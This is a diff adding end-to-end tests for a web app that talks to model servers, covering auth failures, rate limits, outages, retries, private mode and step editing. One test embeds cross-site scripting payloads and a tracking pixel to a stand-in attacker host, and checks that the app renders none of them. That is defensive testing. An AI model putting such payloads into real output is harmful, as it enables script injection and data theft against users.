@@ -1,0 +1,155 @@
+/** What can go wrong with a server, a model's words and a conversation, as a person meets it. */
+import { afterEach } from 'vitest';
+import { startServer, type ServerOptions, type TestServer } from '../support/openai-server.ts';
+import { question, sumMind } from '../support/sum-mind.ts';
+import { expect, test, type Page } from './support.ts';
+import { addServer, answer, ask, eventually, finished, lastRun, rows, visit } from './using.ts';
+
+let server: TestServer | undefined;
+const serve = async (options: ServerOptions) => (server = await startServer(options));
+afterEach(async () => {
+	await server?.stop();
+	server = undefined;
+});
+
+const status = (page: Page) => async () => (await lastRun(page))?.status;
+
+test('a wrong key: the run waits and says so; with the right key it goes on', async ({
+	browser,
+	site,
+}) => {
+	const { url } = await serve({ reply: sumMind(), key: 'right' });
+	browser.expectProblem(/401/);
+	const page = await browser.open(site.url);
+	await addServer(page, url);
+	await ask(page, 'HyperThink', question);
+	await eventually(status(page)).toBe('suspended');
+	expect((await lastRun(page))?.waiting?.code).toBe('unauthorised');
+	await page.getByText('It waits').waitFor();
+	await visit(page, 'Models');
+	await page.getByRole('button', { name: /^Edit/ }).click();
+	await page.getByLabel('Key', { exact: true }).fill('right');
+	await page.getByRole('button', { name: 'Save endpoint' }).click();
+	await visit(page, 'Think');
+	await page.getByRole('button', { name: 'Try again' }).click();
+	await eventually(status(page)).toBe('done');
+	await eventually(() => answer(page).innerText()).toContain('42');
+});
+
+test('a server that is overloaded for a moment is waited for, without a word to the person', async ({
+	browser,
+	site,
+}) => {
+	const reply = sumMind();
+	const { url } = await serve({
+		reply: (request, earlier) =>
+			earlier < 2 ? { status: 429, headers: { 'retry-after': '1' } } : reply(request),
+	});
+	browser.expectProblem(/429/);
+	const page = await browser.open(site.url);
+	await addServer(page, url);
+	await ask(page, 'Direct', question);
+	await eventually(status(page)).toBe('done');
+});
+
+test('a server that goes away: the run waits, and goes on when it is back', async ({
+	browser,
+	site,
+}) => {
+	const { url } = await serve({ reply: sumMind() });
+	const port = Number(new URL(url).port);
+	browser.expectProblem(/ERR_CONNECTION_REFUSED|Failed to load/);
+	const page = await browser.open(site.url);
+	await addServer(page, url);
+	await server!.stop();
+	await ask(page, 'MidTry', question);
+	await eventually(status(page), 40_000).toBe('suspended');
+	await serve({ reply: sumMind(), port });
+	await page.getByRole('button', { name: 'Try again' }).click();
+	await eventually(status(page)).toBe('done');
+	expect((await lastRun(page))?.outcome?.confidence).toBe('HIGH');
+});
+
+test('a server that breaks at one step fails the run with its reason; again from there', async ({
+	browser,
+	site,
+}) => {
+	let broken = true;
+	const reply = sumMind();
+	const { url } = await serve({
+		reply: (request) => (broken ? { status: 500, body: { error: 'no' } } : reply(request)),
+	});
+	browser.expectProblem(/500/);
+	const page = await browser.open(site.url);
+	await addServer(page, url);
+	await ask(page, 'Direct', question);
+	await eventually(status(page), 60_000).toBe('failed');
+	broken = false;
+	await page.getByRole('button', { name: 'Try again from there' }).click();
+	await eventually(status(page)).toBe('done');
+});
+
+test('hostile words stay words: no script, no image, no foreign request', async ({
+	browser,
+	site,
+}) => {
+	const text = [
+		'<img src="https://evil.example/a.png" onerror="document.title=\'owned\'">',
+		'![pixel](https://evil.example/b.png?secret)',
+		'<script>document.title = "owned"</script>',
+		'[click](javascript:document.title="owned")',
+		'<iframe src="https://evil.example"></iframe>',
+		'$$\\href{javascript:alert(1)}{x}$$',
+	].join('\n\n');
+	const { url } = await serve({ reply: () => ({ text, thinking: text }) });
+	const page = await browser.open(site.url);
+	await addServer(page, url);
+	await ask(page, 'Direct', 'Be hostile.');
+	await finished(page);
+	await eventually(() => answer(page).innerText()).toContain('evil.example');
+	await page.waitForTimeout(500);
+	expect(await page.title()).not.toContain('owned');
+	expect(await answer(page).locator('img, script, iframe, a[href^="javascript"]').count()).toBe(0);
+	expect(browser.requests.filter((request) => request.includes('evil.example'))).toEqual([]);
+});
+
+test('a conversation that leaves no trace leaves none', async ({ browser, site }) => {
+	const { url } = await serve({ reply: sumMind() });
+	const page = await browser.open(site.url);
+	await addServer(page, url);
+	await visit(page, 'Think');
+	await page.getByRole('button', { name: 'New, leave no trace' }).click();
+	await page.getByLabel('Question').fill(question);
+	await page.getByRole('radio', { name: 'HyperThink' }).check({ force: true });
+	await page.getByRole('button', { name: 'Think', exact: true }).click();
+	await eventually(() => answer(page).innerText()).toContain('42');
+	for (const table of ['conversations', 'runs', 'steps', 'texts', 'notes']) {
+		expect(await rows(page, table), table).toEqual([]);
+	}
+	await page.reload();
+	await page.getByLabel('Question').waitFor();
+	expect(await page.getByText(question).count()).toBe(0);
+});
+
+test('a step is edited and the run goes on from there; the first run stays', async ({
+	browser,
+	site,
+}) => {
+	const { url } = await serve({ reply: sumMind() });
+	const page = await browser.open(site.url);
+	await addServer(page, url);
+	await ask(page, 'MidTry', question);
+	await eventually(status(page)).toBe('done');
+	const asked = server!.requests.length;
+	await page.getByRole('article', { name: 'Path 4' }).getByRole('button').last().click();
+	await page.getByRole('button', { name: 'Edit and go on from here' }).click();
+	await page.getByLabel('Its reply, as you want it').fill('I agree.\n<answer>42</answer>');
+	await page.getByRole('button', { name: 'Go on from here' }).click();
+	await eventually(async () => (await rows(page, 'runs')).length).toBe(2);
+	await eventually(status(page)).toBe('done');
+	await eventually(() => page.getByText('4 of 4 paths agree').count()).toBeGreaterThan(0);
+	// The four paths and the check were not asked again: their requests did not change.
+	expect(server!.requests.length).toBe(asked);
+	await page.getByRole('button', { name: 'Earlier version' }).click();
+	await eventually(() => page.getByText('3 of 4 paths agree').count()).toBeGreaterThan(0);
+});
